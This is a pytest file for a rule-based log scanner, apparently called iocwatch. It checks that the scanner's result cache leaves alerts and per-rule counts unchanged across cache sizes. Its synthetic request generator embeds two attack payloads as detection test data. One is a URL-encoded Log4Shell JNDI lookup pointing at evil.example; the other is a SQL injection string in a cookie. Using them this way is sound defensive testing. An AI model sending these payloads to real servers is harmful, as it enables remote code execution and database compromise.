# SPDX-License-Identifier: Apache-2.0
"""The scan-result cache (src/iw_engine_memo.c) never changes what is detected.

Every input is scanned four times with the same rules: cache off
(`--scan-cache 0`), the default cache, 64 entries (the smallest with a
region of its own for a client's header lines and cookie: both 32 KiB
rings wrap every few requests, keys are copied to the head and answered
at the ring's tail) and a one-entry cache (every lookup evicts the last,
so stores, misses and ring reuse are exercised constantly).  stdout (alerts with their evidence) must be byte-identical,
and so must the per-rule counts on stderr.  Inputs repeat their values a
lot (the benign log shares User-Agents, paths and hosts; the corpus files
are also scanned twice in one run) so the default cache really hits.

    /usr/bin/python3 -m pytest tests/cli/test_scan_cache.py
"""
import json
import os
import re
import subprocess

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
SHARED = os.environ.get("IW_SHARED", os.path.join(REPO, "..", "shared"))
CLI = os.environ.get("IW_CLI", os.path.join(REPO, "build", "iocwatch"))
SIGMAHQ = os.path.join(SHARED, "sigma", "sigmahq-rules")
RULES = ["--rules", os.path.join(SIGMAHQ, "rules"),
         "--rules", os.path.join(SIGMAHQ, "rules-emerging-threats"),
         "--rules", os.path.join(REPO, "conf", "rules")]
INPUTS = {
    "crs": os.path.join(SHARED, "corpus", "crs-requests.jsonl"),
    "benign": os.path.join(SHARED, "corpus", "benign", "elastic-apache.log"),
    "sigmahq-requests": os.path.join(REPO, "tests", "sigmahq", "requests.jsonl"),
    "sigmahq-errors": os.path.join(REPO, "tests", "sigmahq", "errors.log"),
    "pack-attacks": os.path.join(REPO, "tests", "pack", "attacks.jsonl"),
    "pack-cases": os.path.join(REPO, "tests", "pack", "cases.jsonl"),
    "pack-errors": os.path.join(REPO, "tests", "pack", "errors.log"),
}
TIMING = re.compile(r" in [0-9.]+ s \([0-9]+ lines/s\)")


def scan(cache, path):
    p = subprocess.run([CLI, "scan", "--no-progress", "--jobs", "1", "--scan-cache", str(cache)]
                       + RULES + [path, path], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=600, check=False)
    return p.returncode, p.stdout, TIMING.sub("", p.stderr.decode("utf-8", "replace"))


def request_uris(path):
    """(request, its target) for each JSON request of `path` whose "uri" is
    a string; other lines are skipped (the inputs test_plain_db and
    test_header_lines derive their requests from)."""
    with open(path, encoding="utf-8") as f:
        for line in f:
            try:
                r = json.loads(line)
            except ValueError:
                continue
            if isinstance(r.get("uri"), str):
                yield r, r["uri"]


def check_switch_keeps_results(path, var, what, want_alerts=True):
    """The same scan with an engine shortcut on (the default) and turned
    off by environment variable `var`=0 gives the same exit code, alerts
    and summary (test_plain_db, test_header_lines)."""
    runs = []
    for on in (True, False):
        env = dict(os.environ)
        if not on:
            env[var] = "0"
        p = subprocess.run([CLI, "scan", "--no-progress", "--jobs", "1"] + RULES + [path],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                           timeout=600, check=False)
        runs.append((p.returncode, p.stdout, TIMING.sub("", p.stderr.decode("utf-8", "replace"))))
    on, off = runs
    assert off[0] in (0, 1), off[2]
    if want_alerts:
        assert b"\n" in off[1], "no alerts at all: the comparison would be empty"
    assert on[0] == off[0]
    assert on[1] == off[1], "alerts differ with %s" % what
    assert on[2] == off[2], "summary differs with %s" % what


def browser_real(tmp_path, n=1500):
    """The benchmark's browser-real requests as JSON lines (tools/bench_instr.py
    --jsonl): the benign log's GETs with a browser's headers and cookies."""
    path = str(tmp_path / "browser-real.jsonl")
    with open(path, "wb") as f:
        subprocess.run(["/usr/bin/python3", os.path.join(REPO, "tools", "bench_instr.py"),
                        "--jsonl", "browser-real", str(n)], stdout=f, timeout=120, check=True,
                       env=dict(os.environ, IW_SHARED=SHARED))
    return path


def check_cache_keeps_results(path, want_alerts):
    """Cache off, the default size and one entry: the same exit code, alerts
    and summary."""
    if not os.access(CLI, os.X_OK):
        pytest.skip("CLI not built: %s" % CLI)
    if not os.path.exists(path):
        pytest.skip("missing %s" % path)
    off = scan(0, path)
    assert off[0] in (0, 1), off[2]
    assert b"\n" in off[1] or not want_alerts, "no alerts at all: the comparison would be empty"
    for cache in (512, 64, 1):
        got = scan(cache, path)
        assert got[0] == off[0], "exit code, --scan-cache %d" % cache
        assert got[1] == off[1], "alerts differ, --scan-cache %d" % cache
        assert got[2] == off[2], "summary differs, --scan-cache %d" % cache


@pytest.mark.parametrize("name", sorted(INPUTS))
def test_cache_never_changes_results(name):
    check_cache_keeps_results(INPUTS[name], want_alerts=name != "benign")


def test_cache_never_changes_results_on_browser_traffic(tmp_path):
    """A browser's whole header set per request and a cookie per client:
    header lines that repeat, and new ones scanned line by line."""
    check_cache_keeps_results(browser_real(tmp_path), want_alerts=False)


def test_scan_cache_option_is_checked():
    if not os.access(CLI, os.X_OK):
        pytest.skip("CLI not built: %s" % CLI)
    p = subprocess.run([CLI, "scan", "--scan-cache", "lots", "-"], input=b"",
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, check=False)
    assert p.returncode == 2
    assert b"--scan-cache wants 0.." in p.stderr


def repeats_log(path):
    """Browser-like requests whose cookie and headers need decoding and
    repeat per client (the scan cache keys them by their raw bytes, not
    split or decoded), with attacks in encoded headers and cookie values
    that repeat too (a raw-keyed result with predicates: the evidence must
    still be the decoded value)."""
    import json
    lines = []
    for i in range(120):
        client = i % 7
        hs = {"Host": "example.org", "Accept": "text/html,*/*;q=0.8",
              "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0)" % (120 + client % 3),
              "Cookie": "session=%08x; prefs=%%7B%%22theme%%22%%3A%%22dark%%22%%7D" % (client * 7919),
              "Sec-Fetch-Mode": "navigate"}
        if client == 3:
            hs["X-Api-Version"] = "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"
        if client == 5:
            hs["Cookie"] += "; q=%27%20or%201%3D1--"
        if i % 11 == 0:
            hs["Referer"] = "https://example.org/search?q=%22a%20b%22"
        lines.append(json.dumps({"id": "r%d" % i, "method": "GET", "uri": "/p/%d" % (i % 13),
                                 "version": "HTTP/1.1", "client": "192.0.2.%d" % client,
                                 "headers": hs, "status": 200}))
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


def test_raw_keyed_fields_keep_results(tmp_path):
    """cs-header-decoded and the cookie's per-parameter views answered
    from the cache by their raw bytes: the same alerts and evidence as
    with the cache off."""
    if not os.access(CLI, os.X_OK):
        pytest.skip("CLI not built: %s" % CLI)
    path = str(tmp_path / "repeats.jsonl")
    repeats_log(path)
    off = scan(0, path)
    assert off[0] in (0, 1), off[2]
    for field in (b'"cs-header-decoded"', b'"cs-cookie-param-value"'):
        assert field in off[1], "no alert on %s: the comparison would not cover it" % field
    for cache in (512, 64, 1):
        got = scan(cache, path)
        assert got[0] == off[0], "exit code, --scan-cache %d" % cache
        assert got[1] == off[1], "alerts differ, --scan-cache %d" % cache
        assert got[2] == off[2], "summary differs, --scan-cache %d" % cache
